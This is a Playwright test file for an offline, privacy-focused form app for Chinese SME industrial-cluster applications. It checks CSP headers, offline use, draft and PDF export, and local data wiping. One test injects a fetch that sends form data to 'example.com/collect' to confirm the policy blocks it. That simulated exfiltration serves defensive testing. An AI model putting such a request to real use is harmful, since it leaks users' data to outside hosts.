// The privacy promise, enforced: a strict CSP in every built page that blocks requests to other origins,
// and a site that keeps working offline after the first visit.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';

const site = '.e2e-site';

function htmlFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? htmlFiles(join(dir, e.name)) : e.name.endsWith('.html') ? [join(dir, e.name)] : [],
  );
}

test('every built page carries the Content-Security-Policy', () => {
  const pages = htmlFiles(site);
  expect(pages.length).toBeGreaterThanOrEqual(3);
  for (const file of pages) {
    const csp = /<meta http-equiv="content-security-policy" content="([^"]+)"/.exec(readFileSync(file, 'utf8'))?.[1] ?? '';
    for (const directive of ["default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
      expect({ file, has: csp.includes(directive) }).toEqual({ file, has: true });
    }
    expect({ file, unsafeInline: /'unsafe-inline'|'unsafe-eval'/.test(csp) }).toEqual({ file, unsafeInline: false });
  }
});

test('a request to another origin injected into the page is blocked by the policy', async ({ page }) => {
  // Hint: answer example.com locally, so without the policy the fetch would succeed.
  await page.route('https://example.com/**', (r) => r.fulfill({ status: 200, body: 'leaked' }));
  await page.goto('./');
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((ok) => document.addEventListener('securitypolicyviolation', (e) => ok(e.effectiveDirective)));
    const result = await fetch('https://example.com/collect?name=集群').then(
      () => 'sent',
      () => 'blocked',
    );
    return { result, directive: await violation };
  });
  expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
});

test('after one visit the site works offline: reload, open a draft, fill a section, write the PDF, export', async ({ page, context }) => {
  await page.goto('./');
  await expect(page.getByRole('status').filter({ hasText: '已可离线使用' })).toBeVisible({ timeout: 30_000 });
  await page.reload();
  await context.setOffline(true);
  await page.reload();
  await page.getByRole('button', { name: '按此通知开始填写：粤工信服务函〔2023〕6号' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('封面');
  await page.getByRole('textbox', { name: '集群名称', exact: true }).fill('佛山市顺德区中小企业特色产业集群（小家电产业）');
  await page.getByRole('navigation', { name: '填写步骤' }).getByRole('link', { name: /一、基本情况/ }).click();
  await page.getByRole('textbox', { name: '集群占地面积（平方公里）', exact: true }).fill('48.60');
  await page.reload();
  await expect(page.getByRole('textbox', { name: '集群占地面积（平方公里）', exact: true })).toHaveValue('48.60');
  await page.getByRole('navigation', { name: '填写步骤' }).getByRole('link', { name: '核对信息' }).click();
  const pdf = page.waitForEvent('download');
  await page.getByRole('button', { name: '下载 PDF' }).click();
  // Hint: most of the form is still empty, so 核对信息 asks first and the PDF is a marked draft.
  await page.getByRole('alertdialog', { name: '申报表还没有填完' }).getByRole('button', { name: '仍生成草稿' }).click();
  expect((await pdf).suggestedFilename()).toBe('佛山市顺德区中小企业特色产业集群（小家电产业）-中小企业特色产业集群申报表（草稿）.pdf');
  const exported = page.waitForEvent('download');
  await page.getByRole('button', { name: '导出草稿' }).click();
  expect((await exported).suggestedFilename()).toMatch(/草稿.*\.json$/);
  await page.goto('./privacy/');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('数据说明');
});

test('「清除本机全部数据」 asks first, then really removes drafts, caches and the service worker', async ({ page, context }) => {
  // The first visit's precaching (the ~4 MB font) is slowed down, so the user clears while it is still running.
  await context.route('**/*.ttf', async (route) => {
    await new Promise((done) => setTimeout(done, 2_000));
    await route.continue();
  });
  await page.goto('./');
  await page.getByRole('button', { name: '按此通知开始填写：川经信办函〔2023〕220号' }).click();
  await page.getByRole('textbox', { name: '集群名称', exact: true }).fill('四川省成都市郫都区川菜调味品产业');
  await page.goto('./privacy/');
  await page.getByRole('button', { name: '清除本机全部数据' }).click();
  await expect(page.getByRole('alertdialog')).toContainText('本机所有草稿都将被删除');
  await page.getByRole('button', { name: '确定清除' }).click();
  await expect(page.getByRole('status').filter({ hasText: '已清除本机全部数据' })).toBeVisible();
  const left = await page.evaluate(async () => ({
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(left).toEqual({ databases: 0, caches: 0, workers: 0 });
  await page.goto('./');
  await expect(page.getByText('本机还没有草稿')).toBeVisible();
});
